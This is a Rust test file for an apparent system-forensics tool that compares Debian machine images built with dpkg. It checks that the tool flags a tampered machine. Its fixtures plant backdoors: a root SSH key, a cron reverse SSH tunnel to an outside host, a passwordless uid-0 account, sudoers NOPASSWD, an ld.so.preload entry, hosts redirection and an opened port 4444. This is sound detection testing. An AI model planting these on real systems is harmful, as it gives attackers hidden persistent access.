//! Cranes of one delivery compared: what one alone has comes first, expected variation stays apart; and one crane in time.
//!
//! The machines are made here: packages are built and installed by dpkg itself into a root, which is copied, made each
//! machine's own, and given to mke2fs.
use crate::common::{cranescope, ext4, have, plant, run};
use serde_json::Value;
use std::collections::BTreeSet;
use std::os::unix::fs::{PermissionsExt, symlink};
use std::path::{Path, PathBuf};
use std::process::Command;
use std::sync::OnceLock;

fn quiet(program: &str, arguments: &[&str]) {
    let out = Command::new("timeout").arg("60").arg(program).args(arguments).output().unwrap();
    assert!(out.status.success(), "{program} {arguments:?}: {}", String::from_utf8_lossy(&out.stderr));
}

fn text(path: &Path) -> &str {
    path.to_str().unwrap()
}

fn mode(path: &Path, mode: u32) {
    std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).unwrap();
}

/// Builds a package: its files with their modes.
fn package(folder: &Path, name: &str, version: &str, files: &[(&str, &[u8], u32)]) -> PathBuf {
    let tree = folder.join(format!("{name}-{version}"));
    let control = format!(
        "Package: {name}\nVersion: {version}\nArchitecture: amd64\nMaintainer: Test <t@example.org>\nDescription: {name}\n"
    );
    plant(&tree, &[("DEBIAN/control", &control)]);
    let mut sums = String::new();
    let mut conffiles = String::new();
    for (path, content, bits) in files {
        let at = tree.join(path.trim_start_matches('/'));
        std::fs::create_dir_all(at.parent().unwrap()).unwrap();
        std::fs::write(&at, content).unwrap();
        mode(&at, *bits);
        if path.starts_with("/etc/") {
            conffiles.push_str(&format!("{path}\n"));
        } else {
            let sum = Command::new("md5sum").arg(&at).output().unwrap().stdout;
            sums.push_str(&format!("{}  {}\n", &String::from_utf8_lossy(&sum)[..32], path.trim_start_matches('/')));
        }
    }
    plant(&tree, &[("DEBIAN/md5sums", &sums)]);
    if !conffiles.is_empty() {
        plant(&tree, &[("DEBIAN/conffiles", &conffiles)]);
    }
    let deb = folder.join(format!("{name}_{version}_amd64.deb"));
    quiet("dpkg-deb", &["--root-owner-group", "-b", text(&tree), text(&deb)]);
    deb
}

/// Installs packages into a root as dpkg does, with its log.
fn install(root: &Path, debs: &[PathBuf]) {
    plant(root, &[]);
    std::fs::create_dir_all(root.join("var/log")).unwrap();
    for folder in ["var/lib/dpkg/info", "var/lib/dpkg/updates", "var/lib/dpkg/triggers"] {
        std::fs::create_dir_all(root.join(folder)).unwrap();
    }
    let status = root.join("var/lib/dpkg/status");
    if !status.exists() {
        std::fs::write(&status, "").unwrap();
    }
    let (flag, log) = (format!("--root={}", text(root)), format!("--log={}/var/log/dpkg.log", text(root)));
    let mut arguments = vec![&*flag, &log, "--force-not-root", "--force-bad-path", "--force-confold", "-i"];
    arguments.extend(debs.iter().map(|d| text(d)));
    quiet("dpkg", &arguments);
}

const UNIT: &str =
    "[Unit]\nDescription=Spreader\n[Service]\nExecStart=/usr/bin/spreader\n[Install]\nWantedBy=multi-user.target\n";

/// The programs of this machine: real ELF files.
fn program(name: &str) -> Vec<u8> {
    std::fs::read(format!("/usr/bin/{name}")).unwrap()
}

fn base_packages(folder: &Path) -> Vec<PathBuf> {
    let (spreader, helper) = (program("true"), program("false"));
    vec![
        package(
            folder,
            "spreader",
            "1.0",
            &[
                ("/usr/bin/spreader", &spreader, 0o755),
                ("/usr/bin/spreader-helper", &helper, 0o755),
                ("/usr/lib/systemd/system/spreader.service", UNIT.as_bytes(), 0o644),
                ("/etc/spreader.conf", b"speed = 1\n", 0o644),
            ],
        ),
        package(
            folder,
            "openssh-server",
            "1:9.2p1-2",
            &[("/usr/sbin/sshd", &spreader, 0o755), ("/etc/ssh/sshd_config", b"PermitRootLogin no\n", 0o644)],
        ),
        package(folder, "login", "1:4.13", &[("/etc/pam.d/login", b"auth required pam_unix.so\n", 0o644)]),
    ]
}

/// What is no package's on every machine.
const COMMON: &[(&str, &str)] = &[
    ("/etc/os-release", "ID=debian\nVERSION_ID=\"12\"\nPRETTY_NAME=\"Debian GNU/Linux 12\"\n"),
    ("/etc/passwd", "root:x:0:0:root:/root:/bin/sh\noperator:x:1000:1000::/home/operator:/bin/sh\n"),
    ("/etc/group", "root:x:0:\noperator:x:1000:\n"),
    ("/etc/shadow", "root:*:19000:0:99999:7:::\noperator:*:19000:0:99999:7:::\n"),
    (
        "/etc/nftables.conf",
        "table inet filter {\n chain input {\n  type filter hook input priority 0; policy drop;\n  tcp dport 22 accept\n }\n}\n",
    ),
];

struct Fleet {
    folder: PathBuf,
    roots: Vec<PathBuf>,
    cases: Vec<PathBuf>,
}

const SISTERS: usize = 5;
/// The one that is given the plants.
const ODD: usize = 2;

/// Five machines of one delivery, each with its own names, keys, addresses and logs.
fn fleet() -> Option<&'static Fleet> {
    static MADE: OnceLock<Option<Fleet>> = OnceLock::new();
    MADE.get_or_init(|| {
        if !["dpkg", "dpkg-deb", "mke2fs", "ssh-keygen", "md5sum"].into_iter().all(have) {
            return None;
        }
        // Of a static nothing is dropped: one place, made anew by each run.
        let folder = Path::new(env!("CARGO_TARGET_TMPDIR")).join("sisters");
        drop(std::fs::remove_dir_all(&folder));
        std::fs::create_dir_all(&folder).unwrap();
        let master = folder.join("master");
        plant(&master, COMMON);
        install(&master, &base_packages(&folder));
        std::fs::create_dir_all(master.join("etc/systemd/system/multi-user.target.wants")).unwrap();
        symlink(
            "/usr/lib/systemd/system/spreader.service",
            master.join("etc/systemd/system/multi-user.target.wants/spreader.service"),
        )
        .unwrap();
        let (mut roots, mut cases) = (Vec::new(), Vec::new());
        for number in 0..SISTERS {
            let root = folder.join(format!("root-{number}"));
            quiet("cp", &["-a", text(&master), text(&root)]);
            make_own(&root, number);
            cases.push(examined(&folder, &root, &format!("crane-{number}")));
            roots.push(root);
        }
        Some(Fleet { folder, roots, cases })
    })
    .as_ref()
}

fn make_own(root: &Path, number: usize) {
    let name = format!("sts-{}", 4100 + number);
    plant(
        root,
        &[
            ("/etc/hostname", &format!("{name}\n")),
            ("/etc/hosts", &format!("127.0.0.1 localhost\n127.0.1.1 {name}.port.example {name}\n")),
            ("/etc/machine-id", &format!("{:032x}\n", 0x5eed_0000_1234 + number)),
            (
                "/etc/network/interfaces",
                &format!(
                    "auto eth0\niface eth0 inet static\n    address 10.20.3.{}/24\n    gateway 10.20.3.1\n",
                    11 + number
                ),
            ),
            ("/var/log/syslog", &format!("{}\n", "Jan  1 00:00:00 host kernel: tick\n".repeat(number + 1))),
            ("/var/lib/systemd/random-seed", &format!("{number}{number}")),
        ],
    );
    if number % 2 == 1 {
        plant(root, &[("/var/log/syslog.1", "Jan  1 00:00:00 host kernel: tock\n")]);
    }
    let key = root.join("etc/ssh/ssh_host_ed25519_key");
    quiet("ssh-keygen", &["-q", "-t", "ed25519", "-N", "", "-C", &format!("root@{name}"), "-f", text(&key)]);
}

/// Makes an image of a root, and a case of the image.
fn examined(folder: &Path, root: &Path, name: &str) -> PathBuf {
    let image = format!("{name}.img");
    ext4(folder, root, &image);
    let case = format!("{name}.cranecase");
    let arguments = ["examine", &image, "--case", &case, "--overwrite", "--quiet", "--as-of", "2026-01-01"];
    let (code, _, error) = run(folder, &arguments);
    assert_eq!(code, 0, "{error}");
    folder.join(case)
}

fn compared(cases: &[&Path], more: &[&str]) -> Value {
    let mut command = cranescope();
    command.arg("compare").args(cases).args(["--format", "json", "--as-of", "2026-01-01"]).args(more);
    let out = command.output().unwrap();
    assert!(out.status.success(), "{}", String::from_utf8_lossy(&out.stderr));
    serde_json::from_slice(&out.stdout).unwrap()
}

fn list<'a>(json: &'a Value, key: &str) -> &'a [Value] {
    json[key].as_array().unwrap()
}

/// Everything a difference says of itself and of what stands below it.
fn words(difference: &Value) -> String {
    let one = |d: &Value| format!("{} {} {} {}", d["table"], d["label"], d["source"], d["columns"]);
    let below: Vec<String> = list(difference, "below").iter().map(one).collect();
    format!("{} {}", one(difference), below.join(" "))
}

/// A plant: its name, the word by which its difference is known, and what it does to a root.
type Plant = (&'static str, &'static str, fn(&Path));

fn append(root: &Path, path: &str, more: &str) {
    let path = root.join(path.trim_start_matches('/'));
    let old = std::fs::read_to_string(&path).unwrap();
    std::fs::write(path, old + more).unwrap();
}

const KEY: &str = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIGJkZmhqbHByc3V3eXoxMzU3OWFjZWdpa21vcXN1d3kx support@vendor\n";

const PLANTS: &[Plant] = &[
    ("a key that lets in as root", "authorized", |root| {
        plant(root, &[("/root/.ssh/authorized_keys", KEY)]);
        mode(&root.join("root/.ssh/authorized_keys"), 0o600);
    }),
    ("a service with its program", "telemetry", |root| {
        let unit = "[Service]\nExecStart=/opt/telemetry/agent\n[Install]\nWantedBy=multi-user.target\n";
        plant(root, &[("/etc/systemd/system/telemetry.service", unit), ("/opt/telemetry/agent", "#!/bin/sh\n:\n")]);
        mode(&root.join("opt/telemetry/agent"), 0o755);
        symlink(
            "/etc/systemd/system/telemetry.service",
            root.join("etc/systemd/system/multi-user.target.wants/telemetry.service"),
        )
        .unwrap();
    }),
    ("a scheduled command", "/etc/cron.d/sync", |root| {
        plant(root, &[("/etc/cron.d/sync", "*/5 * * * * root ssh -N -R 2222:localhost:22 sync@203.0.113.5\n")]);
    }),
    ("a second account of root", "toor", |root| {
        append(root, "/etc/passwd", "toor:x:0:0::/root:/bin/sh\n");
        append(root, "/etc/shadow", "toor::19000:0:99999:7:::\n");
    }),
    ("another packaged program", "/usr/bin/spreader-helper", |root| {
        std::fs::write(root.join("usr/bin/spreader-helper"), program("sleep")).unwrap();
    }),
    ("a packaged program with root's rights", "4755", |root| mode(&root.join("usr/bin/spreader-helper"), 0o4755)),
    ("a route", "10.99.0.0", |root| {
        append(root, "/etc/network/interfaces", "    up ip route add 10.99.0.0/16 via 10.20.3.254\n");
    }),
    ("an opened packet filter", "4444", |root| {
        let path = root.join("etc/nftables.conf");
        let old = std::fs::read_to_string(&path).unwrap();
        std::fs::write(path, old.replace("tcp dport 22 accept", "tcp dport 22 accept\n  tcp dport 4444 accept"))
            .unwrap();
    }),
    ("a setting of sshd", "PermitRootLogin", |root| {
        plant(root, &[("/etc/ssh/sshd_config", "PermitRootLogin yes\n")]);
    }),
    ("a dial-up link", "/etc/ppp/peers/wan", |root| {
        plant(root, &[("/etc/ppp/peers/wan", "/dev/ttyUSB3\n115200\ndefaultroute\nuser m2m\n")]);
    }),
    ("a tunnel", "wg0", |root| {
        let conf = "[Interface]\nPrivateKey = aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa=\n[Peer]\nEndpoint = 203.0.113.9:51820\nAllowedIPs = 0.0.0.0/0\n";
        plant(root, &[("/etc/wireguard/wg0.conf", conf)]);
    }),
    ("a program of no package", "/usr/local/bin/bridge", |root| {
        std::fs::create_dir_all(root.join("usr/local/bin")).unwrap();
        std::fs::write(root.join("usr/local/bin/bridge"), program("sleep")).unwrap();
        mode(&root.join("usr/local/bin/bridge"), 0o755);
    }),
    ("rights without a password", "/etc/sudoers.d/90-operator", |root| {
        plant(root, &[("/etc/sudoers.d/90-operator", "operator ALL=(ALL) NOPASSWD: ALL\n")]);
    }),
    ("a name that leads elsewhere", "203.0.113.7", |root| {
        append(root, "/etc/hosts", "203.0.113.7 deb.debian.org\n");
    }),
    ("a preloaded library", "ld.so.preload", |root| {
        plant(root, &[("/etc/ld.so.preload", "/usr/local/lib/libx.so\n")]);
    }),
];

#[test]
fn clean_sisters_differ_in_expected_ways_only() {
    let Some(fleet) = fleet() else { return };
    let cases: Vec<&Path> = fleet.cases.iter().map(PathBuf::as_path).collect();
    let json = compared(&cases, &["--expected"]);
    assert_eq!(json["mode"], "sisters");
    let said: Vec<&Value> = list(&json, "differences").iter().map(|d| &d["label"]).collect();
    assert!(said.is_empty(), "{said:?}");
    // All that differs between the trees, by another tool, is in it.
    let differing = files_that_differ(&fleet.roots);
    let told: BTreeSet<String> = list(&json["expected"], "differences")
        .iter()
        .filter(|d| d["table"] == "files")
        .map(|d| d["key"]["path"].as_str().unwrap().to_owned())
        .collect();
    assert!(differing.len() >= 7, "{differing:?}");
    assert!(differing.is_subset(&told), "{:?}", differing.difference(&told));
    for rule in ["ssh-host-keys", "machine-id", "hostname-file", "interface-address", "log-contents", "own-names"] {
        assert!(json["expected"]["by_rule"][rule].as_u64() > Some(0), "{rule}: {}", json["expected"]["by_rule"]);
    }
    // The same bytes again.
    let again = compared(&cases, &["--expected"]);
    assert!(json == again);
}

/// Paths of files that `diff -rq` names between the first tree and the others.
fn files_that_differ(roots: &[PathBuf]) -> BTreeSet<String> {
    let mut all = BTreeSet::new();
    let first = &roots[0];
    for other in &roots[1..] {
        let out = Command::new("diff").args(["-rq", "--no-dereference"]).args([first, other]).output().unwrap();
        for line in String::from_utf8_lossy(&out.stdout).lines() {
            if let Some(rest) = line.strip_prefix("Files ") {
                let path = rest.split(" and ").next().unwrap();
                all.insert(path.strip_prefix(text(first)).unwrap().to_owned());
            } else if let Some(rest) = line.strip_prefix("Only in ") {
                let (folder, name) = rest.split_once(": ").unwrap();
                let below = folder.strip_prefix(text(first)).or_else(|| folder.strip_prefix(text(other))).unwrap();
                all.insert(format!("{below}/{name}"));
            }
        }
    }
    all
}

#[test]
fn what_one_sister_alone_has_comes_first() {
    let Some(fleet) = fleet() else { return };
    let at = fleet.folder.join("plants");
    std::fs::create_dir_all(&at).unwrap();
    let mut wrong = Vec::new();
    for (number, (what, word, change)) in PLANTS.iter().enumerate() {
        let root = at.join(format!("root-{number}"));
        quiet("cp", &["-a", text(&fleet.roots[ODD]), text(&root)]);
        change(&root);
        let case = examined(&at, &root, &format!("planted-{number}"));
        let mut cases: Vec<&Path> = fleet.cases.iter().map(PathBuf::as_path).collect();
        cases[ODD] = &case;
        let json = compared(&cases, &[]);
        let differences = list(&json, "differences");
        let first = differences.first().map(words).unwrap_or_default();
        if !first.contains(word) {
            wrong.push(format!("{what}: {first}"));
        }
        // Nothing of the other machines is told beside it.
        let others: Vec<String> =
            differences.iter().filter(|d| d["odd"] != serde_json::json!([ODD])).map(words).collect();
        if !others.is_empty() {
            wrong.push(format!("{what}: beside it {others:?}"));
        }
        if differences.len() > 4 {
            wrong.push(format!(
                "{what}: {} differences {:?}",
                differences.len(),
                differences.iter().map(words).collect::<Vec<_>>()
            ));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

/// Plants that rules speak of, and the word by which each finding names its own.
const TEN: &[Plant] = &[
    ("a key that lets in as root", "SHA256:vPWSWNLh2DxIBRfkjCdKfLe9+bx6wi84pJGbJ3CvUSo", |root| (PLANTS[0].2)(root)),
    ("a scheduled command", "ssh -N -R 2222", |root| (PLANTS[2].2)(root)),
    ("a second account of root", "toor", |root| {
        append(root, "/etc/passwd", "toor:x:0:0::/nonexistent:/bin/sh\n");
        append(root, "/etc/shadow", "toor:*:19000:0:99999:7:::\n");
    }),
    ("an account without a password", "guest", |root| {
        append(root, "/etc/passwd", "guest:x:1001:1001::/home/guest:/bin/sh\n");
        append(root, "/etc/group", "guest:x:1001:\n");
        append(root, "/etc/shadow", "guest::19000:0:99999:7:::\n");
    }),
    ("another packaged program", "spreader", |root| (PLANTS[4].2)(root)),
    ("a setting of sshd", "PermitRootLogin yes", |root| (PLANTS[8].2)(root)),
    ("a dial-up link", "connection wan", |root| (PLANTS[9].2)(root)),
    ("a tunnel", "connection wg0", |root| (PLANTS[10].2)(root)),
    ("rights without a password", "operator", |root| (PLANTS[12].2)(root)),
    ("a preloaded library", "/etc/ld.so.preload", |root| (PLANTS[14].2)(root)),
];

#[test]
fn ten_plants_against_the_approved_sister_are_these_ten() {
    let Some(fleet) = fleet() else { return };
    let at = fleet.folder.join("ten");
    std::fs::create_dir_all(&at).unwrap();
    let approved = text(&fleet.cases[0]);
    let (code, _, error) = run(&at, &["baseline", "build", approved, "-o", "a.baseline", "--origin", "approved"]);
    assert_eq!(code, 0, "{error}");
    let root = at.join("root");
    quiet("cp", &["-a", text(&fleet.roots[1]), text(&root)]);
    TEN.iter().for_each(|(.., change)| change(&root));
    examined(&at, &root, "planted");
    let above_info = |case: &str| -> Vec<String> {
        let (code, _, error) = run(&at, &["judge", case, "--baseline", "a.baseline"]);
        assert_eq!(code, 0, "{error}");
        let (code, _, error) = run(&at, &["report", case, "--format", "json", "-o", "r.json"]);
        assert_eq!(code, 0, "{error}");
        let json = crate::common::report(&at.join("r.json"));
        let loud = list(&json, "findings").iter().filter(|f| f["severity"] != "info");
        loud.map(|f| format!("{} {}", f["rule"].as_str().unwrap(), f["subject"].as_str().unwrap())).collect()
    };
    for sister in 0..2 {
        let own = at.join(format!("sister-{sister}.cranecase"));
        std::fs::copy(&fleet.cases[sister], &own).unwrap();
        assert_eq!(above_info(text(&own)), [] as [&str; 0]);
    }
    let found = above_info("planted.cranecase");
    for (what, word, _) in TEN {
        assert!(found.iter().any(|f| f.contains(word)), "{what}: {found:#?}");
    }
    let others: Vec<&String> = found.iter().filter(|f| !TEN.iter().any(|(_, word, _)| f.contains(word))).collect();
    assert!(others.is_empty(), "{others:#?}");
}

#[test]
fn what_all_share_is_not_hidden_and_a_delivery_does_not_vouch_for_it() {
    let Some(fleet) = fleet() else { return };
    let at = fleet.folder.join("shared");
    std::fs::create_dir_all(&at).unwrap();
    let mut cases = Vec::new();
    for number in 0..3 {
        let root = at.join(format!("root-{number}"));
        quiet("cp", &["-a", text(&fleet.roots[number]), text(&root)]);
        for (.., change) in PLANTS.iter().filter(|(_, word, _)| ["authorized", "telemetry", "wg0"].contains(word)) {
            change(&root);
        }
        cases.push(examined(&at, &root, &format!("all-{number}")));
    }
    let cases: Vec<&Path> = cases.iter().map(PathBuf::as_path).collect();
    let unvouched = |more: &[&str]| -> (String, Value) {
        let json = compared(&cases, more);
        assert_eq!(list(&json, "differences").len(), 0, "{}", json["differences"]);
        let all: Vec<String> = list(&json, "unvouched").iter().map(|u| u["key"].to_string()).collect();
        (all.join("\n"), json)
    };
    let (without, json) = unvouched(&[]);
    for word in ["authorized", "telemetry", "wg0"] {
        assert!(without.contains(word), "{word}: {without}");
    }
    // Of what a package brought, only the machines' own database speaks.
    assert!(!without.contains("spreader.service"), "{without}");
    assert!(json["own_word"].as_u64() > Some(0));
    for (origin, vouches) in [("delivery", false), ("approved", true)] {
        let file = format!("{origin}.baseline");
        let (code, _, error) = run(&at, &["baseline", "build", "all-0.cranecase", "-o", &file, "--origin", origin]);
        assert_eq!(code, 0, "{error}");
        let (with, json) = unvouched(&["--baseline", text(&at.join(&file))]);
        assert_eq!(with.contains("telemetry"), !vouches, "{origin}: {with}");
        assert_eq!(list(&json, "not_vouching").len(), usize::from(!vouches));
        assert!(json["machines"][0]["notes"].to_string().contains("judged again"));
    }
}

#[test]
fn rules_are_learnt_and_wait_for_approval() {
    let Some(fleet) = fleet() else { return };
    let at = fleet.folder.join("learnt");
    std::fs::create_dir_all(&at).unwrap();
    let mut cases = Vec::new();
    for number in 0..2 {
        let root = at.join(format!("root-{number}"));
        quiet("cp", &["-a", text(&fleet.roots[number]), text(&root)]);
        let state = format!("/var/lib/spreader/run-{}.db", 2024 + number);
        plant(
            &root,
            &[
                ("/etc/spreader.local", &format!("{number}")),
                (&state, "x"),
                ("/opt/tool", &format!("#!/bin/sh\n{number}\n")),
            ],
        );
        mode(&root.join("opt/tool"), 0o755);
        cases.push(examined(&at, &root, &format!("good-{number}")));
    }
    let names: Vec<&str> = cases.iter().map(|c| text(c)).collect();
    let (code, out, error) = run(&at, &["variation", "learn", names[0], names[1], "-o", "learnt.toml"]);
    assert_eq!(code, 0, "{error}");
    assert!(out.contains("rules proposed"), "{out}");
    let learnt = std::fs::read_to_string(at.join("learnt.toml")).unwrap();
    assert!(learnt.contains("path = \"/var/lib/spreader/run-#.db\""), "{learnt}");
    assert!(learnt.contains("path = \"/etc/spreader.local\"") && learnt.contains("learnt-from"), "{learnt}");
    assert!(!learnt.contains("/opt/tool") && !learnt.contains("approved = true"), "{learnt}");
    let cases: Vec<&Path> = cases.iter().map(PathBuf::as_path).collect();
    let file = at.join("learnt.toml");
    let labels = |json: &Value| list(json, "differences").iter().map(words).collect::<Vec<_>>().join("\n");
    let waiting = compared(&cases, &["--variation", text(&file)]);
    assert!(labels(&waiting).contains("/etc/spreader.local"), "{}", labels(&waiting));
    assert!(list(&waiting["expected"], "not_applied").len() >= 2);
    std::fs::write(&file, learnt.replace("approved = false", "approved = true")).unwrap();
    let applied = labels(&compared(&cases, &["--variation", text(&file)]));
    assert!(!applied.contains("spreader") && applied.contains("/opt/tool"), "{applied}");
    std::fs::write(&file, "schema = 1\n[[rule]]\nid = \"x\"\n").unwrap();
    let (code, _, error) = run(&at, &["compare", names[0], names[1], "--variation", "learnt.toml"]);
    assert_eq!((code, error.lines().count()), (2, 1), "{error}");
}

#[test]
fn three_years_of_updates_are_told_from_changes_by_hand() {
    if fleet().is_none() {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let at = folder.path();
    let root = at.join("root");
    plant(&root, COMMON);
    install(&root, &base_packages(at));
    make_own(&root, 0);
    let before = examined(at, &root, "delivered");
    // Updates by dpkg, one new package, one removed; then changes by hand, one of them in a packaged file.
    let (spreader, helper) = (program("echo"), program("sleep"));
    let updated = package(
        at,
        "spreader",
        "2.0",
        &[
            ("/usr/bin/spreader", &spreader, 0o755),
            ("/usr/bin/spreader-helper", &helper, 0o755),
            ("/usr/bin/spreader-tune", &helper, 0o755),
            (
                "/usr/lib/systemd/system/spreader.service",
                UNIT.replace("spreader\n[", "spreader --v2\n[").as_bytes(),
                0o644,
            ),
            ("/etc/spreader.conf", b"speed = 1\n", 0o644),
        ],
    );
    let new = package(at, "hoistlib", "3.1", &[("/usr/lib/hoist/libhoist.so.3", &helper, 0o644)]);
    install(&root, &[updated, new]);
    let (flag, log) = (format!("--root={}", text(&root)), format!("--log={}/var/log/dpkg.log", text(&root)));
    quiet("dpkg", &[&flag, &log, "--force-not-root", "--force-bad-path", "-r", "login"]);
    for (.., change) in PLANTS.iter().filter(|(_, word, _)| ["toor", "/usr/local/bin/bridge"].contains(word)) {
        change(&root);
    }
    std::fs::write(root.join("usr/sbin/sshd"), program("sleep")).unwrap();
    let after = examined(at, &root, "year-later");
    let json = compared(&[&before, &after], &[]);
    assert_eq!(json["mode"], "time");
    let by = |whose: &str| -> Vec<String> {
        list(&json, "differences").iter().filter(|d| d["hand"]["whose"] == whose).map(words).collect()
    };
    // What dpkg's own log tells of after the delivery, and nothing else, is the package manager's.
    let log = std::fs::read_to_string(root.join("var/log/dpkg.log")).unwrap();
    let logged: BTreeSet<&str> = log
        .lines()
        .filter_map(|l| match l.split(' ').collect::<Vec<_>>()[2..] {
            ["upgrade" | "remove", name, ..] | ["install", name, "<none>", "3.1"] => name.split(':').next(),
            _ => None,
        })
        .collect();
    assert_eq!(logged.iter().copied().collect::<Vec<_>>(), ["hoistlib", "login", "spreader"]);
    let managed = by("package-manager");
    for name in &logged {
        assert!(managed.iter().any(|d| d.contains(&format!("\"packages\" \"{name} |"))), "{name}: {managed:#?}");
    }
    assert_eq!(managed.len(), logged.len(), "{managed:#?}");
    let updates = managed.join(" ");
    for path in
        ["/usr/bin/spreader ", "/usr/bin/spreader-tune", "/usr/lib/systemd/system/spreader.service", "libhoist.so.3"]
    {
        assert!(updates.contains(path.trim()), "{path}: {updates}");
    }
    let hands = by("unknown").join("\n");
    for path in ["toor", "/usr/local/bin/bridge", "/usr/sbin/sshd"] {
        assert!(hands.contains(path) && !updates.contains(path), "{path}: {hands}");
    }
    assert!(by("login").is_empty() && by("package-unlogged").is_empty());
    // Findings moved, too: the account is new.
    let new: Vec<&Value> = list(&json, "findings").iter().filter(|f| f["change"] == "new").collect();
    assert!(new.iter().any(|f| f["rule"] == "account-with-uid-zero"), "{}", json["findings"]);
}

#[test]
fn formats_and_wrong_use() {
    let Some(fleet) = fleet() else { return };
    let at = fleet.folder.as_path();
    let (a, b) = (text(&fleet.cases[0]), text(&fleet.cases[1]));
    let (code, out, error) = run(at, &["compare", a, b, "--format", "csv", "--expected", "-o", "c.csv"]);
    assert_eq!((code, out.as_str()), (0, ""), "{error}");
    let csv = std::fs::read_to_string(at.join("c.csv")).unwrap();
    let columns = csv.lines().next().unwrap().split(',').count();
    assert!(csv.starts_with("rank,part,class,table,key,odd,columns,crane-0,crane-1,") && columns == 16, "{csv}");
    assert!(csv.contains("machine-id"), "{csv}");
    let (code, out, _) = run(at, &["compare", a, b]);
    assert_eq!(code, 0);
    assert!(out.starts_with("--- crane-0  (sts-4100)\n+++ crane-1  (sts-4101)\n"), "{out}");
    assert!(out.contains("expected variation (") && out.contains("shared by all"), "{out}");
    assert_eq!(run(at, &["compare", a]).0, 2);
    assert_eq!(run(at, &["compare", a, b, "--sisters", "--in-time"]).0, 2);
    assert_eq!(run(at, &["compare", a, b, a, "--in-time"]).0, 2);
    let (code, out, _) = run(at, &["variation", "show"]);
    assert!(code == 0 && out.contains("ssh-host-keys (rows of keys)"), "{out}");
}
